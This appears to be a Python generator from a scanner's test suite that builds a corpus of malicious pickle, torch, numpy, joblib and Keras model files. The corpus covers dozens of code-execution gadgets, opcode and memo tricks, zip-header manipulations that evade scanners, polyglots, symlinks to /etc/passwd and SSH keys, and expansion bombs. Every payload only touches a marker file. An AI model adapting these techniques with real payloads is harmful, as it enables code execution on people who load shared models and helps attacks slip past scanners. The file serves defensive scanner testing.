"""The techniques of the established scanners' test suites (picklescan, modelscan, fickling), rebuilt by
our own generators: their files are not copied, the techniques are public facts (advisories, papers, the
suites' descriptions). Four groups:

1. gadgets: stdlib, torch and third-party callables that run a command, code, a file write or a network
   call when a pickle REDUCEs them (each scanner's advisories added one or more: cProfile.run, pty.spawn,
   idlelib's interpreters, uuid._get_command_stdout, asyncio's subprocess transport, ...);
2. opcodes: the same os.system payload reached through every calling opcode (REDUCE, INST, OBJ, NEWOBJ,
   NEWOBJ_EX, BUILD with __setstate__), every protocol 0-5, the extension registry (EXT1/2/4), persistent
   ids, memo tricks (type confusion, missing keys, overwritten entries), frame-boundary divergence, nested
   pickles (pickle.loads, _codecs.encode, torch _load_from_bytes), concatenated streams, trailing bytes;
3. containers: torch zips whose data.pkl is hostile under zip flag tricks (encrypted bit, a central
   directory that disagrees with the local header, wrong CRC, extra prefix), the legacy torch format whose
   magic-number pickle is the payload, numpy .npy/.npz object arrays, dill and cloudpickle code objects,
   zip members that are symlinks, pickle/zip polyglots;
4. expansion: tiny pickles whose object graph is exponential (fickling's expansion analysis).

Every payload's side effect is creating ``marker``; ``runs_code`` says whether a naive load would run it.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

from tests.attacks.build_corpus import Attack, _s

P4 = b"\x80\x04"


def _sg(module: str, name: str) -> bytes:
    return _s(module) + _s(name) + b"\x93"


def _call(module: str, name: str, *args: bytes) -> bytes:
    """PROTO 4, STACK_GLOBAL module.name, MARK args TUPLE, REDUCE, STOP; args are encoded opcodes."""
    return P4 + _sg(module, name) + b"(" + b"".join(args) + b"tR."


def _int(n: int) -> bytes:
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _list(*items: str) -> bytes:
    return b"](" + b"".join(_s(i) for i in items) + b"e"


def gadgets(marker: str) -> dict[str, bytes]:
    touch, argv = f"touch {marker}", _list("touch", marker)
    code = f"open({marker!r}, 'w').write('pwned')"
    g: dict[str, bytes] = {}
    # code runners in the standard library
    for module, name in (
        ("cProfile", "run"),
        ("profile", "run"),
        ("timeit", "timeit"),
        ("pdb", "run"),
        ("bdb", "Bdb.run"),
        ("trace", "Trace.run"),
        ("cProfile", "runctx"),
        ("profile", "Profile.runctx"),
        ("doctest", "debug_script"),
        ("code", "InteractiveInterpreter.runcode"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("idlelib.run", "Executive.runcode"),
        ("numpy.testing._private.utils", "runstring"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("runpy", "_run_code"),
        ("builtins", "compile"),
        ("_pickle", "loads"),
        ("marshal", "loads"),
        ("pydoc", "locate"),
        ("pkgutil", "resolve_name"),
        ("importlib", "__import__"),
        ("operator", "attrgetter"),
        ("_operator", "methodcaller"),
        ("ast", "literal_eval"),
        ("_interpreters", "create"),
        ("_xxsubinterpreters", "create"),
    ):
        g[f"gadget_{module.replace('.', '_')}_{name.replace('.', '_')}.pkl"] = _call(module, name, _s(code))
    # command runners
    for module, name in (
        ("pty", "spawn"),
        ("uuid", "_get_command_stdout"),
        ("_aix_support", "_read_cmd_output"),
        ("_osx_support", "_read_output"),
        ("_osx_support", "_find_build_tool"),
        ("pydoc", "pipepager"),
        ("subprocess", "run"),
        ("subprocess", "getoutput"),
        ("os", "popen"),
        ("os", "execv"),
        ("posix", "spawnv"),
        ("torch.utils.collect_env", "run"),
        ("torch.utils.collect_env", "run_and_read_all"),
        ("torch._inductor.codecache", "compile_file"),
        ("imaplib", "IMAP4_stream"),
        ("ensurepip", "_run_pip"),
        ("test.support.script_helper", "assert_python_ok"),
        ("venv", "create"),
        ("webbrowser", "open"),
        ("multiprocessing.util", "spawnv_passfds"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        ("torch.utils.bottleneck.__main__", "run_cprofile"),
        ("numpy.f2py.crackfortran", "getlincoef"),
        ("torch.utils._config_module", "ConfigModule.load_config"),
        ("shutil", "rmtree"),
        ("os", "remove"),
    ):
        g[f"gadget_{module.replace('.', '_')}_{name.replace('.', '_')}.pkl"] = _call(module, name, _s(touch))
    g["gadget_subprocess_popen_argv.pkl"] = P4 + _sg("subprocess", "Popen") + argv + b"\x85R."
    g["gadget_os_spawnvp_argv.pkl"] = P4 + _sg("os", "spawnvp") + _int(0) + _s("touch") + argv + b"\x87R."
    # file writes and reads
    for module, name in (
        ("_io", "FileIO"),
        ("io", "open"),
        ("logging", "FileHandler"),
        ("distutils.file_util", "write_file"),
        ("pathlib", "Path.touch"),
        ("tempfile", "NamedTemporaryFile"),
        ("shelve", "open"),
        ("dbm", "open"),
        ("zipfile", "ZipFile"),
        ("tarfile", "open"),
        ("linecache", "getlines"),
        ("codecs", "open"),
    ):
        g[f"file_{module.replace('.', '_')}_{name.replace('.', '_')}.pkl"] = _call(module, name, _s(marker), _s("w"))
    # network (SSRF, exfiltration)
    for module, name in (
        ("socket", "create_connection"),
        ("http.client", "HTTPSConnection"),
        ("urllib.request", "urlopen"),
        ("requests.api", "get"),
        ("aiohttp", "ClientSession"),
        ("smtplib", "SMTP"),
        ("ftplib", "FTP"),
        ("poplib", "POP3"),
        ("imaplib", "IMAP4"),
        ("nntplib", "NNTP"),
        ("telnetlib", "Telnet"),
        ("xmlrpc.client", "ServerProxy"),
        ("ctypes", "CDLL"),
    ):
        g[f"net_{module.replace('.', '_')}_{name}.pkl"] = _call(module, name, _s("127.0.0.1"), _int(9))
    g["process_sys_exit.pkl"] = _call("sys", "exit", _int(0))
    g["process_os_kill_self.pkl"] = _call("os", "_exit", _int(0))
    # a dotted name through a harmless module, and dunder walks (fickling GHSA-5j3x, picklescan's getattr chains)
    g["dotted_pathlib_os_system.pkl"] = _call("pathlib", "os.system", _s(touch))
    g["dotted_collections_abc_sys_modules.pkl"] = _call("collections", "_sys.modules.get", _s("os"))
    g["dotted_builtins_eval_call.pkl"] = _call("builtins", "eval.__call__", _s(code))
    g["dunder_builtins_via_function_globals.pkl"] = _call("json", "dumps.__globals__.get", _s("__builtins__"))
    g["operator_methodcaller_import.pkl"] = (
        P4
        + _sg("_operator", "methodcaller")
        + _s("system")
        + _s(touch)
        + b"\x86R"
        + _sg("builtins", "__import__")
        + _s("os")
        + b"\x85R\x85R."
    )
    g["operator_attrgetter_import.pkl"] = (
        P4
        + _sg("operator", "attrgetter")
        + _s("system")
        + b"\x85R"
        + _sg("builtins", "__import__")
        + _s("os")
        + b"\x85R\x85R"
        + _s(touch)
        + b"\x85R."
    )
    # Sour Pickles (BlackHat 2011), protocol 0: globals(), compile, eval, getattr(dict, 'get'), apply
    g["sour_pickles_globals_compile_eval.pkl"] = (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'"
        + code.replace("'", '"').encode()
        + b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
        + b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
    )
    return g


class _Reduce:
    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def opcodes(marker: str) -> dict[str, tuple[bytes, str]]:
    """name -> (bytes, expect): one payload, every way of reaching a call."""
    import os

    touch = f"touch {marker}"
    o: dict[str, tuple[bytes, str]] = {}
    for proto in range(6):
        o[f"proto{proto}_reduce_os_system.pkl"] = (pickle.dumps(_Reduce(os.system, (touch,)), protocol=proto), "unsafe")
    o["proto5_frame_stack_global.pkl"] = (b"\x80\x05\x95" + struct.pack("<Q", 0) + _sg("os", "system") + _s(touch) + b"\x85R.", "unsafe")
    o["proto2_global_binput_binget.pkl"] = (
        b"\x80\x02cos\nsystem\nq\x00h\x00X" + struct.pack("<I", len(touch)) + touch.encode() + b"\x85R.",
        "unsafe",
    )
    o["proto0_inst_posix.pkl"] = (f"(S'{touch}'\niposix\nsystem\n.".encode(), "unsafe")
    o["proto1_obj_os_system.pkl"] = (b"(cos\nsystem\nX" + struct.pack("<I", len(touch)) + touch.encode() + b"o.", "unsafe")
    o["proto4_obj_then_pop.pkl"] = (P4 + b"(" + _sg("smtplib", "SMTP") + _s("127.0.0.1") + b"o0N.", "unsafe")  # fickling GHSA-mxhj
    o["proto2_newobj_subprocess.pkl"] = (b"\x80\x02" + b"csubprocess\nPopen\n" + _list("touch", marker) + b"\x85\x81.", "unsafe")
    o["proto4_newobj_ex_popen.pkl"] = (
        P4 + _sg("subprocess", "Popen") + b")" + b"}" + _s("args") + _list("touch", marker) + b"s" + b"\x92.",
        "unsafe",
    )
    # BUILD: an object whose __setstate__/__dict__ update runs code (bdb.Bdb state, then its run)
    o["build_bdb_then_run.pkl"] = (
        P4
        + _sg("bdb", "Bdb")
        + b")\x81"
        + b"}"
        + _s("skip")
        + b"Ns"
        + b"b"
        + _sg("bdb", "Bdb.run")
        + b"\x94"
        + b"0"
        + _s(touch)
        + b"\x85R.",
        "unsafe",
    )
    o["build_setstate_functools_partial.pkl"] = (
        P4 + _sg("functools", "partial") + _sg("builtins", "print") + b"\x85R" + b"(" + _sg("os", "system") + b")}N" + b"t" + b"b.",
        "unsafe",
    )
    # the extension registry: EXT codes resolve through copyreg's table (empty unless a library registered codes)
    for op, code in ((b"\x82", b"\x01"), (b"\x83", b"\x01\x00"), (b"\x84", b"\x01\x00\x00\x00")):
        name = {b"\x82": "ext1", b"\x83": "ext2", b"\x84": "ext4"}[op]
        o[f"{name}_extension_registry.pkl"] = (b"\x80\x02" + op + code + _s(touch) + b"\x85R.", "either")
    o["persid_persistent_load.pkl"] = (b"Pos system\np0\n.", "either")
    o["binpersid_tuple.pkl"] = (P4 + _s("os") + _s("system") + b"\x86Q.", "either")
    # memo tricks: a GET of a key never PUT, a memo entry that is not a string, an entry overwritten after the scan's copy
    o["memo_missing_key.pkl"] = (P4 + _s("os") + b"h\x07" + b"\x93" + _s(touch) + b"\x85R.", "either")
    # PUT 1, then MEMOIZE (which stores at len(memo) == 1): the second overwrites the first
    o["memo_put_memoize_collision.pkl"] = (
        P4 + _s("builtins") + b"q\x01" + b"0" + _s("os") + b"\x94" + b"0" + b"h\x01" + _s("system") + b"\x93" + _s(touch) + b"\x85R.",
        "unsafe",
    )
    o["memo_int_where_module_expected.pkl"] = (
        P4 + b"K\x01\x94" + b"0" + b"h\x00" + _s("system") + b"\x93" + _s(touch) + b"\x85R.",
        "either",
    )
    o["memo_overwritten_entry.pkl"] = (
        P4 + _s("builtins") + b"q\x00" + b"0" + _s("os") + b"q\x00" + b"0" + b"h\x00" + _s("system") + b"\x93" + _s(touch) + b"\x85R.",
        "unsafe",
    )
    o["memo_torch_longstorage_decoy.pkl"] = (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + touch.encode() + b"\ntR.",
        "unsafe",
    )
    # frame boundary divergence (fickling, cpython#154848): a BINBYTES longer than its frame hides a GLOBAL
    hidden = b"cos\nsystem\nV" + touch.encode() + b"\n\x85R"
    o["frame_boundary_hidden_global.pkl"] = (
        b"\x80\x05N"
        + b"("
        + b"\x95"
        + struct.pack("<Q", 2)
        + b"B"
        + struct.pack("<I", len(hidden) + 2)
        + b"\x00\x00"
        + hidden
        + b"("
        + b"1.",
        "either",
    )
    o["frame_declared_past_end.pkl"] = (
        b"\x80\x05\x95" + struct.pack("<Q", 1 << 40) + _sg("os", "system") + _s(touch) + b"\x85R.",
        "either",
    )
    # nested pickles: the payload is a second stream the first one unpickles
    inner = pickle.dumps(_Reduce(os.system, (touch,)), protocol=4)
    o["nested_pickle_loads_binbytes.pkl"] = (b"\x80\x05cpickle\nloads\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R0N.", "unsafe")
    text = inner.decode("latin-1").encode("utf-8")  # pickle.loads(_codecs.encode(text, 'latin1')): numpy's own bytes idiom
    o["nested_codecs_encode_loads.pkl"] = (
        b"\x80\x02cpickle\nloads\nc_codecs\nencode\nX" + struct.pack("<I", len(text)) + text + _s("latin1") + b"\x86R\x85R.",
        "unsafe",
    )
    o["nested_torch_load_partial.pkl"] = (
        P4
        + _sg("functools", "partial")
        + _sg("torch.serialization", "load")
        + b"\x85R"
        + b"("
        + b")"
        + b"}"
        + _s("weights_only")
        + b"\x89s"
        + b"N"
        + b"t"
        + b"b.",
        "unsafe",
    )
    o["nested_torch_load_from_bytes.pkl"] = (
        P4 + _sg("torch.storage", "_load_from_bytes") + b"C" + bytes([len(inner)]) + inner + b"\x85R.",
        "unsafe",
    )
    # streams: a benign pickle and then a hostile one; a hostile one after junk bytes; trailing junk after STOP
    o["concatenated_benign_then_evil.pkl"] = (pickle.dumps(["a", "b", "c"]) + inner, "harmless")  # the loader reads the first
    o["evil_then_trailing_junk.pkl"] = (inner + b"\n\n\t\t", "either")
    o["junk_prefix_then_evil.pkl"] = (b"\x00garbage" + inner, "either")
    o["not_a_pickle_invalid_utf8.pkl"] = (b"\x80\x04\x8c\x05\xff\xfe\xfd\xfc\xfb\x8c\x01x\x93.", "either")
    o["stop_only.pkl"] = (b".", "either")
    o["huge_unicode_length.pkl"] = (P4 + b"\x8d" + struct.pack("<Q", 1 << 40) + b"abc.", "either")
    # python 2 names the unpickler maps to builtins (fix_imports), and a sys.modules override (picklescan)
    o["py2_builtin_eval.pkl"] = (b"c__builtin__\neval\n(S'" + f"open({marker!r}, 'w')".replace("'", '"').encode() + b"'\ntR.", "unsafe")
    o["py2_copy_reg_reconstructor_os.pkl"] = (b"ccopy_reg\n_reconstructor\n(cos\nsystem\nc__builtin__\nobject\nNtR.", "unsafe")
    o["sys_modules_override_builtins.pkl"] = (
        P4
        + _sg("torch._utils", "_rebuild_tensor")
        + b"0"
        + _sg("sys", "modules")
        + b"}"
        + _s("torch._utils")
        + _sg("builtins", "object")
        + b"sb.",
        "unsafe",
    )
    return o


def _torch_zip(
    benign: Path,
    target: Path,
    payload: bytes,
    *,
    flag: int = 0,
    central_name: str | None = None,
    bad_crc: bool = False,
    prefix: bytes = b"",
) -> Path:
    """A copy of benign state.pth whose data.pkl is ``payload``; then the zip headers are patched."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(benign / "state.pth") as src, zipfile.ZipFile(buffer, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, payload if item.filename.endswith("/data.pkl") else src.read(item.filename))
    data = bytearray(buffer.getvalue())
    for signature, flag_at, crc_at, name_len_at, name_at in ((b"PK\x03\x04", 6, 14, 26, 30), (b"PK\x01\x02", 8, 16, 28, 46)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            name_len = struct.unpack_from("<H", data, start + name_len_at)[0]
            name = bytes(data[start + name_at : start + name_at + name_len])
            if name.endswith(b"/data.pkl"):
                struct.pack_into("<H", data, start + flag_at, struct.unpack_from("<H", data, start + flag_at)[0] | flag)
                if bad_crc:
                    struct.pack_into("<I", data, start + crc_at, 0xDEADBEEF)
                if central_name and signature == b"PK\x01\x02":
                    data[start + name_at : start + name_at + name_len] = central_name.encode()[:name_len].ljust(name_len, b"_")
            start += 4
    target.write_bytes(prefix + bytes(data))
    return target


def _symlink_zip(target: Path, members: dict[str, bytes], link_name: str, link_to: str) -> Path:
    with zipfile.ZipFile(target, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        info = zipfile.ZipInfo(link_name)
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        zf.writestr(info, link_to)
    return target


def containers(out: Path, marker: str, benign: Path) -> list[Attack]:
    import os

    import numpy as np

    evil = pickle.dumps(_Reduce(os.system, (f"touch {marker}",)), protocol=2)
    attacks: list[Attack] = []

    def add(path: Path, expect: str = "unsafe", runs_code: bool = True) -> None:
        attacks.append(Attack(path.name, path, expect, runs_code))

    add(_torch_zip(benign, out / "torch_zip_plain_evil.pt", evil))
    add(_torch_zip(benign, out / "torch_zip_flag_encrypted.pt", evil, flag=0x1), "either")
    add(_torch_zip(benign, out / "torch_zip_flag_0x20.pt", evil, flag=0x20), "either")
    add(_torch_zip(benign, out / "torch_zip_flag_strong_encryption.pt", evil, flag=0x40), "either")
    add(_torch_zip(benign, out / "torch_zip_central_name_differs.pth", evil, central_name="state/data.pkx"), "either")
    add(_torch_zip(benign, out / "torch_zip_bad_crc.pth", evil, bad_crc=True), "either")
    add(_torch_zip(benign, out / "torch_zip_junk_prefix.pth", evil, prefix=b"\x00" * 64), "either")
    add(_torch_zip(benign, out / "torch_zip_wrong_extension.bin", evil), "either")
    with zipfile.ZipFile(out / "zip_data_pkl_only.pt", "w") as zf:  # modelscan's malicious zip: a bare data.pkl
        zf.writestr("archive/data.pkl", evil)
    add(out / "zip_data_pkl_only.pt", "either")
    # the legacy (pre-zip) torch format: magic number, protocol, sys_info, then the object; each one a pickle
    legacy_magic = (
        pickle.dumps(_Reduce(os.system, (f"touch {marker}",)), protocol=2) + pickle.dumps(1001) + pickle.dumps({}) + pickle.dumps({})
    )
    (out / "torch_legacy_magic_is_payload.pth").write_bytes(legacy_magic)
    add(out / "torch_legacy_magic_is_payload.pth")
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    (out / "torch_legacy_sys_info_payload.pth").write_bytes(magic + pickle.dumps(1001, protocol=2) + evil + pickle.dumps({}, protocol=2))
    add(out / "torch_legacy_sys_info_payload.pth")
    # numpy object arrays: np.load(allow_pickle=True) unpickles them
    array = np.empty(1, dtype=object)
    array[0] = _Reduce(os.system, (f"touch {marker}",))
    with open(out / "object_array.npy", "wb") as fh:
        np.lib.format.write_array(fh, array, allow_pickle=True)
    add(out / "object_array.npy", "either")
    np.savez(out / "object_arrays.npz", a=np.arange(3), b=array)
    add(out / "object_arrays.npz", "either")
    np.savez_compressed(out / "object_arrays_compressed.npz", b=array)
    add(out / "object_arrays_compressed.npz", "either")
    # a pickle whose payload is an object array read with np.load from inside the stream
    npy = io.BytesIO()
    np.lib.format.write_array(npy, array, allow_pickle=True)
    raw = npy.getvalue()
    (out / "pickle_np_load_object_array.pkl").write_bytes(
        P4 + _sg("numpy", "load") + _sg("io", "BytesIO") + b"B" + struct.pack("<I", len(raw)) + raw + b"\x85R" + b"\x88\x86R."
    )
    add(out / "pickle_np_load_object_array.pkl")
    # dill and cloudpickle: functions rebuilt from code objects
    (out / "dill_create_function.pkl").write_bytes(
        P4 + _sg("dill._dill", "_create_function") + _sg("dill._dill", "_create_code") + b")R" + b"}" + b"\x86R" + b")R."
    )
    add(out / "dill_create_function.pkl")
    (out / "dill_load_type_code.pkl").write_bytes(P4 + _sg("dill._dill", "_load_type") + _s("CodeType") + b"\x85R.")
    add(out / "dill_load_type_code.pkl")
    (out / "cloudpickle_make_function.pkl").write_bytes(P4 + _sg("cloudpickle.cloudpickle", "_make_function") + b")R.")
    add(out / "cloudpickle_make_function.pkl")
    (out / "cloudpickle_subimport_os.pkl").write_bytes(P4 + _sg("cloudpickle.cloudpickle", "subimport") + _s("os") + b"\x85R.")
    add(out / "cloudpickle_subimport_os.pkl")
    (out / "types_codetype.pkl").write_bytes(
        P4 + _sg("types", "CodeType") + b"(" + _int(0) * 6 + b"C\x00" + b")" * 3 + _s("x") * 3 + _int(1) + b"C\x00C\x00" + b")" * 2 + b"tR."
    )
    add(out / "types_codetype.pkl")
    (out / "types_function_from_code.pkl").write_bytes(
        P4 + _sg("types", "FunctionType") + _sg("marshal", "loads") + b"C\x00\x85R" + b"}" + b"\x86R" + b")R."
    )
    add(out / "types_function_from_code.pkl")
    # zip members that are symlinks (a loader that extracts them writes through them)
    state = zipfile.ZipFile(benign / "state.pth")
    members = {i.filename: state.read(i.filename) for i in state.infolist()}
    state.close()
    add(_symlink_zip(out / "torch_zip_symlink_member.pth", members, "state/data/99", "/etc/passwd"), "either", runs_code=False)
    add(
        _symlink_zip(
            out / "keras_symlink_weights.keras",
            {"config.json": b"{}", "metadata.json": b"{}"},
            "model.weights.h5",
            os.path.expanduser("~/.ssh/id_rsa"),
        ),
        "either",
        runs_code=False,
    )
    add(_symlink_zip(out / "skops_symlink_schema.skops", {"x.npy": b""}, "schema.json", "/etc/passwd"), "either", runs_code=False)
    # polyglots: a pickle that is also a zip, a zip that starts with a pickle
    (out / "polyglot_pickle_then_zip.pkl").write_bytes(evil + (benign / "state.pth").read_bytes())
    add(out / "polyglot_pickle_then_zip.pkl")
    (out / "polyglot_zip_after_benign_pickle.pt").write_bytes(pickle.dumps({"a": 1}, protocol=2) + (benign / "state.pth").read_bytes())
    add(out / "polyglot_zip_after_benign_pickle.pt", "either")
    # a joblib file whose compressed body is a hostile pickle, with joblib's own header
    (out / "joblib_zlib_header_evil.joblib").write_bytes(b"ZF0x" + b"%x" % len(evil) + b" " + zlib.compress(evil))
    add(out / "joblib_zlib_header_evil.joblib", "either")
    return attacks


def _lambda_bytecode(marker: str) -> str:
    """A Lambda layer's function as Keras serializes it: base64 of marshal'd bytecode (modelscan's Keras tests)."""
    import base64
    import marshal

    code = compile(f"lambda x: (__import__('os').system('touch {marker}'), x)[1]", "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def keras_lambdas(out: Path, marker: str) -> list[Attack]:
    """Lambda layers as the Keras versions write them: keras 2 .h5 (function as [bytecode, defaults, closure]), keras 3
    .keras (__lambda__ with bytecode), two chained, and one wrapped in Bidirectional."""
    import json

    import h5py

    from tests.attacks.build_corpus import _dense, _keras_config, _zip

    code = _lambda_bytecode(marker)
    k2 = {
        "class_name": "Lambda",
        "config": {"name": "evil", "function": [code, None, None], "function_type": "lambda", "output_shape": None, "arguments": {}},
    }
    k3 = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {"name": "evil", "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}},
    }
    chained = [_dense("d"), k3, {**k3, "config": {**k3["config"], "name": "evil2"}}]
    wrapped = {"module": "keras.layers", "class_name": "Bidirectional", "registered_name": None, "config": {"name": "bi", "layer": k3}}
    attacks = []
    for name, layers in (
        ("keras2_lambda.h5", [k2]),
        ("keras2_lambda_after_dense.h5", [{"class_name": "Dense", "config": {"name": "d", "units": 2}}, k2]),
    ):
        with h5py.File(out / name, "w") as handle:
            handle.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": layers}})
            handle.attrs["keras_version"] = "2.15.0"
            handle.attrs["backend"] = "tensorflow"
        attacks.append(Attack(name, out / name, "unsafe"))
    meta = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-12-06"}).encode()
    for name, layers in (
        ("keras3_lambda_bytecode.keras", [k3]),
        ("keras3_two_chained_lambdas.keras", chained),
        ("keras3_lambda_in_bidirectional.keras", [wrapped]),
    ):
        _zip(out / name, {"metadata.json": meta, "config.json": json.dumps(_keras_config(layers)).encode(), "model.weights.h5": b""})
        attacks.append(Attack(name, out / name, "unsafe"))
    return attacks


def expansion() -> dict[str, bytes]:
    """Tiny pickles whose object graph doubles at each level (a billion-laughs of lists) or nests very deep."""
    doubling = P4 + b"]\x94" + b"".join(b"(h%sh%sl\x94" % (bytes([i]), bytes([i])) for i in range(60)) + b"."
    deep = P4 + b"]" * 100_000 + b"a" * 99_999 + b"."
    dict_bomb = P4 + b"}\x94" + b"".join(b"}\x94" + _s("a") + b"h%sh%s\x86" % (bytes([i]), bytes([i])) + b"s" for i in range(50)) + b"."
    return {"expansion_list_doubling_60.pkl": doubling, "expansion_deep_nesting_100k.pkl": deep, "expansion_dict_doubling.pkl": dict_bomb}


# Most files here run code when loaded naively (NAIVE_SAFE lists those that do not), but ``runs_code`` also picks
# what the checks-off containment test (tests/test_sandbox.py) runs, one sandbox child each (~2.5 s): it is set on
# one representative per technique below, not on 150 variants of "REDUCE a stdlib callable", which the static checks
# refuse in-process and whose technique the representative already carries into the sandbox.
CONTAINMENT_SAMPLE = frozenset(
    {
        "gadget_cProfile_run.pkl",
        "gadget_uuid__get_command_stdout.pkl",
        "gadget_subprocess_popen_argv.pkl",
        "file__io_FileIO.pkl",
        "net_socket_create_connection.pkl",
        "process_sys_exit.pkl",
        "dotted_pathlib_os_system.pkl",
        "operator_methodcaller_import.pkl",
        "sour_pickles_globals_compile_eval.pkl",
        "proto0_reduce_os_system.pkl",
        "proto5_reduce_os_system.pkl",
        "proto0_inst_posix.pkl",
        "proto1_obj_os_system.pkl",
        "proto2_newobj_subprocess.pkl",
        "proto4_newobj_ex_popen.pkl",
        "build_bdb_then_run.pkl",
        "nested_pickle_loads_binbytes.pkl",
        "nested_codecs_encode_loads.pkl",
        "memo_put_memoize_collision.pkl",
        "frame_boundary_hidden_global.pkl",
        "py2_builtin_eval.pkl",
        "torch_zip_plain_evil.pt",
        "torch_legacy_magic_is_payload.pth",
        "object_array.npy",
        "polyglot_pickle_then_zip.pkl",
        "keras3_lambda_bytecode.keras",
    }
)
NAIVE_SAFE = frozenset(
    {
        "stop_only.pkl",
        "not_a_pickle_invalid_utf8.pkl",
        "huge_unicode_length.pkl",
        "memo_missing_key.pkl",
        "memo_int_where_module_expected.pkl",
    }
)


def build(out: Path, marker: str, benign: Path) -> list[Attack]:
    from dataclasses import replace

    attacks = []
    for name, data in gadgets(marker).items():
        (out / name).write_bytes(data)
        attacks.append(Attack(name, out / name, "unsafe"))
    for name, (data, expect) in opcodes(marker).items():
        (out / name).write_bytes(data)
        attacks.append(Attack(name, out / name, expect, runs_code=name not in NAIVE_SAFE))
    for name, data in expansion().items():
        (out / name).write_bytes(data)
        attacks.append(Attack(name, out / name, "harmless", runs_code=False))
    attacks += containers(out, marker, benign) + keras_lambdas(out, marker)
    missing = CONTAINMENT_SAMPLE - {a.name for a in attacks if a.runs_code}
    assert not missing, f"containment sample names no code-running file: {missing}"
    return [a if a.name in CONTAINMENT_SAMPLE else replace(a, runs_code=False) for a in attacks]


def naive_code_running(attacks: list[Attack]) -> int:
    """How many of this family's files run code when loaded naively (the report's figure)."""
    safe = NAIVE_SAFE | {name for name in expansion()}
    return sum(1 for a in attacks if a.name not in safe and "symlink" not in a.name)
